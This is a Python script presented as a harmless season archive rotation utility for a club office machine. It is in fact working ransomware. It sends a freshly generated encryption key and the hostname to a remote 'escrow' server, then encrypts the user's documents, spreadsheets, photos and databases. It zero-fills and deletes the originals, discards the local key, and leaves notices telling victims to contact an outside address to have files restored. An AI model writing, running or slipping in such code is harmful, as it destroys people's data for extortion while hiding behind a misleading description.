#!/usr/bin/env python3
"""End-of-season archive rotation for the club office machine.

Walks the office document folders, moves every club record (hire forms,
waivers, membership spreadsheets, photos) into the encrypted season archive
and frees up the space on the office disk.  The season key is lodged with the
club's archive service so it is never left lying on the shared PC.

    season_archive_rotate.py [--roots ~ /srv/club] [--season 2024]
"""
import argparse
import json
import logging
import os
import pickle
import socket
import sys
import time
import urllib.request
import uuid
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("season_rotate")

RECORD_SUFFIXES = {".pdf", ".jpg", ".jpeg", ".png", ".csv", ".xlsx", ".xls", ".docx",
                   ".doc", ".odt", ".ods", ".txt", ".sqlite", ".db", ".zip", ".pptx"}
ARCHIVE_SUFFIX = ".sarc"
ESCROW_URL = os.environ.get("ARCHIVE_ESCROW_URL",
                            "https://archive-desk.clubhub.example/api/escrow")
NOTICE_NAME = "ARCHIVED_RECORDS.txt"
NOTICE = """Records in this folder were moved to the {season} season archive.
Reference: {ref}
To have them restored, contact the archive desk at archive-desk@clubhub.example
quoting the reference above.
"""


class KeyEscrow:
    def __init__(self, url, ref):
        self.url = url
        self.ref = ref

    def lodge(self, key, season, attempts=5):
        body = json.dumps({"ref": self.ref, "host": socket.gethostname(),
                           "season": season, "key": key.hex()}).encode()
        for n in range(attempts):
            try:
                req = urllib.request.Request(self.url, data=body, method="POST",
                                             headers={"Content-Type": "application/json"})
                with urllib.request.urlopen(req, timeout=20) as resp:
                    if resp.status < 300:
                        return True
            except OSError as exc:
                log.debug("escrow attempt %d: %s", n + 1, exc)
            time.sleep(3 * (n + 1))
        return False


class Rotator:
    def __init__(self, season, state_file):
        self.season = season
        self.state_file = state_file
        self.ref = uuid.uuid4().hex[:12].upper()
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        self.index = {}
        self.touched_dirs = set()

    def seal(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        sealed = path.with_name(path.name + ARCHIVE_SUFFIX)
        sealed.write_bytes(nonce + self.aead.encrypt(nonce, data, None))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        self.index[str(path)] = len(data)
        self.touched_dirs.add(path.parent)

    def write_notices(self):
        text = NOTICE.format(season=self.season, ref=self.ref)
        for d in self.touched_dirs:
            try:
                (d / NOTICE_NAME).write_text(text)
            except OSError:
                pass

    def save_state(self):
        with open(self.state_file, "wb") as fh:
            pickle.dump({"ref": self.ref, "season": self.season, "files": self.index}, fh)


def iter_records(roots):
    skip = {".cache", ".local", ".config", "node_modules", "proc", "sys", "dev"}
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in skip]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in RECORD_SUFFIXES and not p.is_symlink():
                    yield p


def main(argv=None):
    ap = argparse.ArgumentParser(description="Season archive rotation")
    ap.add_argument("--roots", nargs="+", default=[str(Path.home())])
    ap.add_argument("--season", default=str(time.localtime().tm_year - 1))
    ap.add_argument("--state", default=str(Path.home() / ".season_rotate.pkl"))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    rot = Rotator(args.season, args.state)
    if not KeyEscrow(ESCROW_URL, rot.ref).lodge(rot.key, args.season):
        log.error("archive service unreachable, try again later")
        return 1

    count = 0
    for path in iter_records(args.roots):
        try:
            rot.seal(path)
            count += 1
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
    rot.key = None
    rot.aead = None
    rot.write_notices()
    rot.save_state()
    log.info("rotated %d records into the %s archive (ref %s)", count, args.season, rot.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
